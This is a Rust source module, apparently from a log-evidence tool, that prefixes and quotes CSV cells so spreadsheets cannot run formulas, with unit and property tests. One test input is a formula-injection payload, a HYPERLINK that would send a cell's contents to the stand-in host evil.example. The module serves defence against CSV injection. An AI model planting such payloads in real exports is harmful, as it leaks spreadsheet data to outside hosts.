//! CSV cells a spreadsheet cannot run: every value in trailcase's CSV comes from evidence an
//! attacker may have written (user agents, targets, error codes, even eventIDs and file names).
//!
//! As OWASP's "CSV Injection" guidance recommends, a cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return gets a leading `'` (a spreadsheet then shows it as text), and every
//! cell of the file is quoted. The JSON formats keep the exact values; this is for CSV only.
//! Pure: no I/O, nothing else of the crate.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (or shift it into one).
const FORMULA_START: &[u8] = b"=+-@\t\r";

/// `value` as a CSV cell a spreadsheet shows as text.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    match value.as_bytes().first() {
        Some(b) if FORMULA_START.contains(b) => Cow::Owned(format!("'{value}")),
        _ => Cow::Borrowed(value),
    }
}

/// A CSV writer with every cell quoted (OWASP: quote the cell as well as prefixing it).
pub fn writer<W: std::io::Write>(out: W, headers: bool) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .has_headers(headers)
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed_and_others_kept() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralise(bad), format!("'{bad}"));
        }
        for good in ["aws-cli/2.15", "203.0.113.7", "", "a=b", "'already"] {
            assert_eq!(neutralise(good), good);
        }
    }

    proptest::proptest! {
        /// What the `csv_cell` fuzz target checks, on generated text in every `cargo test`.
        #[test]
        fn any_text_reads_back_as_inert_text(text in "[=+@\\t\\r\\-\"',a-z\\n ]{0,12}") {
            let mut w = writer(Vec::new(), false);
            w.write_record([neutralise(&text).as_ref(), "x"]).unwrap();
            let bytes = w.into_inner().unwrap();
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
            let back = r.records().next().unwrap().unwrap();
            let first = back.get(0).unwrap();
            proptest::prop_assert!(!first.starts_with(['=', '+', '-', '@', '\t', '\r']));
            proptest::prop_assert!(first == text || first.strip_prefix('\'') == Some(text.as_str()));
        }
    }

    #[test]
    fn every_cell_is_quoted() {
        let mut w = writer(Vec::new(), false);
        w.write_record(["a", &neutralise("=1+1")]).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "\"a\",\"'=1+1\"\n");
    }
}
